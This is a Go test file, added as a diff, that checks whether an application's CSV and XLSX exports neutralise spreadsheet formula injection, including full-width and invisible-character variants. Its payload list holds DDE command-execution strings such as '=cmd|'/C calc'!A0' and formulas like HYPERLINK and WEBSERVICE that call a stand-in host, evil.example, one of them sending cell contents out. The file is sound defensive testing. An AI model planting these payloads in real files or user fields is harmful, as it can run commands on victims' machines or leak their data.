@@ -1,0 +1,240 @@
+package edge
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http/httptest"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"unicode"
+
+	"github.com/xuri/excelize/v2"
+	"golang.org/x/text/unicode/norm"
+
+	"erba/feature"
+	"erba/platform/apptest"
+)
+
+// formulas are texts that a spreadsheet would run, look up or send away.
+var formulas = []string{
+	"=1+1", "=1+1\" ", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
+	`=HYPERLINK("http://evil.example?x="&A1,"open")`, `=IMPORTXML("http://evil.example","//a")`, `=WEBSERVICE("http://evil.example")`,
+	`=DDE("cmd";"/C calc";"x")`, "=2+5+cmd|' /C calc'!A0", `=rundll32|'URL.dll,OpenURL calc.exe'!A`, "=-1", "=+1", "=@A1", "--1", "+-1",
+	" =1+1", "  \t=1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u00ad=1+1", "\n=1+1", "\r=1+1", "\r\n=1+1", "\t=1+1", "\v=1+1",
+	"＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "⁼1+1", "₌1", "⁺1", "⁻1", "\u3000＝1+1", "−1+1",
+	"'=1+1", `"=1+1"`, `=1+1;=2+2`, "=甲+乙", "=1+1,=2+2",
+	"华为技术有限公司", "a=b", "5-3", "x@example.com", "(-1)", "A+级",
+}
+
+// Whatever stands in a text, no exported cell is a formula, and its reader still reads the text.
+func TestNoExportedCellIsAFormula(t *testing.T) {
+	apptest.Whole(t, feature.Product, func(s *apptest.Stage) {
+		imported := trade(s)
+		downloads := 0
+		for _, o := range operations(s) {
+			if o.Gives != "application/octet-stream" || len(mays(s, o)) == 0 {
+				continue
+			}
+			downloads++
+			for _, format := range formats(o) {
+				read(s, o, strings.ReplaceAll(o.Path, "{id}", imported)+"?"+format)
+			}
+		}
+		if downloads < 3 {
+			s.Errorf("only %d exports", downloads)
+		}
+	})
+}
+
+// formats are the questions that ask for each kind of file.
+func formats(o apptest.Operation) (all []string) {
+	for _, p := range o.Params {
+		if p.Name == "format" {
+			for _, kind := range p.Schema.Enum {
+				all = append(all, "format="+fmt.Sprint(kind))
+			}
+		}
+	}
+	if all == nil {
+		return []string{""}
+	}
+	return all
+}
+
+// trade makes accounts, a user and a ledger of such texts; it returns an import
+// whose rejected rows hold them, too.
+func trade(s *apptest.Stage) string {
+	ctx, stop := context.WithCancel(s.Context())
+	gone := make(chan struct{})
+	go func() { s.Kit.Jobs.Work(ctx, 1); close(gone) }()
+	s.Cleanup(func() { stop(); <-gone })
+	s.Exec(`UPDATE users SET name = ? WHERE login = 'rep'`, "=1+1")
+	var file, accounts bytes.Buffer
+	rows, list := csv.NewWriter(&file), csv.NewWriter(&accounts)
+	_ = rows.Write([]string{"客户编码", "客户名称", "订单号", "日期", "金额", "产品"})
+	_ = list.Write([]string{"客户编码", "客户名称", "地区", "城市", "行业", "简称"})
+	for i, f := range formulas {
+		code := fmt.Sprintf("F%02d", i)
+		_ = list.Write([]string{code, f, f, f, f, f})
+		_ = rows.Write([]string{code, f, "S" + code, "2026-05-01", "100", f})
+		_ = rows.Write([]string{f, f, f, f, f, f}) // and as much as can be wrong
+	}
+	rows.Flush()
+	list.Flush()
+	book(s, "accounts", accounts.String())
+	return book(s, "orders", file.String())
+}
+
+// book imports a file to its end.
+func book(s *apptest.Stage, kind, file string) (id string) {
+	w := do(s, "operations", "POST", "/api/imports?name=%3Dformula.csv&kind="+kind, file, "Content-Type", "application/octet-stream")
+	var one struct {
+		ID       string
+		State    string
+		Settings map[string]any
+	}
+	parse(s, w, &one)
+	one.Settings["create_accounts"] = true
+	parse(s, do(s, "operations", "PUT", "/api/imports/"+one.ID, written(one.Settings)), &one)
+	parse(s, do(s, "operations", "POST", "/api/imports/"+one.ID+"/book", ""), &one)
+	s.Wait("the "+kind+" are booked", func() bool {
+		parse(s, do(s, "operations", "GET", "/api/imports/"+one.ID, ""), &one)
+		return one.State == "published" || one.State == "failed"
+	})
+	if one.State != "published" {
+		s.Fatalf("%s: %s", kind, one.State)
+	}
+	return one.ID
+}
+
+func parse(s *apptest.Stage, w *httptest.ResponseRecorder, into any) {
+	s.Helper()
+	if err := json.Unmarshal(w.Body.Bytes(), into); err != nil || w.Code != 200 {
+		s.Fatalf("%d %s", w.Code, w.Body)
+	}
+}
+
+// marks are the questions that an export wants answered; together they ask for everything.
+func marks(o apptest.Operation) []string {
+	for _, p := range o.Params {
+		if p.Name == "mark" {
+			return []string{"&model=abc&mark=A&all=true", "&model=abc&mark=B&all=true", "&model=abc&mark=C&all=true"}
+		}
+	}
+	return []string{""}
+}
+
+// read asks for a file as everybody who may and looks at every cell.
+func read(s *apptest.Stage, o apptest.Operation, path string) {
+	for _, role := range mays(s, o) {
+		var all []string
+		for _, part := range marks(o) {
+			w := do(s, role, "GET", path+part, "")
+			if w.Code == 404 {
+				continue // not his
+			}
+			if name := w.Header().Get("Content-Disposition"); w.Code != 200 || !strings.HasPrefix(name, "attachment") {
+				s.Errorf("%s as %s: %d %s %s", path, role, w.Code, name, w.Body)
+				continue
+			}
+			cells, problems := cellsOf(w.Body.Bytes())
+			for _, p := range problems {
+				s.Errorf("%s as %s: %s", path, role, p)
+			}
+			all = append(all, cells...)
+		}
+		if role == "director" || role == "operations" {
+			readable(s, path, all)
+		}
+	}
+}
+
+// readable wants every text that stands in the file to be there as it was, behind an apostrophe at most.
+func readable(s *apptest.Stage, path string, cells []string) {
+	for _, f := range formulas {
+		want := strings.TrimSpace(f)
+		if !slices.ContainsFunc(cells, func(cell string) bool { return strings.Contains(plain(cell), plain(want)) }) {
+			s.Errorf("%s: %q is not there", path, f)
+		}
+	}
+}
+
+// plain is a text without what import cleans away: blanks, invisible signs, width.
+func plain(text string) string {
+	return strings.Map(func(r rune) rune {
+		if unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
+			return -1
+		}
+		return r
+	}, norm.NFKC.String(text))
+}
+
+var number = regexp.MustCompile(`^-?[\d,]+(\.\d+)?$`)
+
+// cellsOf reads a file back, as CSV or XLSX, and says which cells would be run.
+func cellsOf(file []byte) (cells, problems []string) {
+	if bytes.HasPrefix(file, []byte("PK")) {
+		return workbookOf(file)
+	}
+	in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\xEF\xBB\xBF"))))
+	in.FieldsPerRecord = -1
+	for {
+		record, err := in.Read()
+		if err == io.EOF {
+			return cells, problems
+		}
+		if err != nil {
+			return cells, append(problems, err.Error())
+		}
+		for _, cell := range record {
+			if cells = append(cells, cell); runs(cell) && !number.MatchString(cell) {
+				problems = append(problems, fmt.Sprintf("a formula: %q", cell))
+			}
+		}
+	}
+}
+
+func workbookOf(file []byte) (cells, problems []string) {
+	book, err := excelize.OpenReader(bytes.NewReader(file))
+	if err != nil {
+		return nil, []string{err.Error()}
+	}
+	for _, sheet := range book.GetSheetList() {
+		rows, err := book.GetRows(sheet)
+		if err != nil {
+			problems = append(problems, err.Error())
+		}
+		for y, row := range rows {
+			for x, cell := range row {
+				at, _ := excelize.CoordinatesToCellName(x+1, y+1)
+				formula, _ := book.GetCellFormula(sheet, at)
+				kind, _ := book.GetCellType(sheet, at)
+				written := kind == excelize.CellTypeSharedString || kind == excelize.CellTypeInlineString
+				if cells = append(cells, cell); formula != "" || written && runs(cell) {
+					problems = append(problems, fmt.Sprintf("a formula in %s: %q %q", at, cell, formula))
+				}
+			}
+		}
+	}
+	return cells, problems
+}
+
+// runs reports whether some spreadsheet would run a text: its first sign that is
+// seen, at full or half width, begins a formula.
+func runs(text string) bool {
+	for _, r := range norm.NFKC.String(text) {
+		switch {
+		case strings.ContainsRune("=+-@\u2212", r), r == '\t', r == '\r':
+			return true
+		case !unicode.IsSpace(r) && !unicode.IsControl(r) && !unicode.Is(unicode.Cf, r):
+			return false
+		}
+	}
+	return false
+}
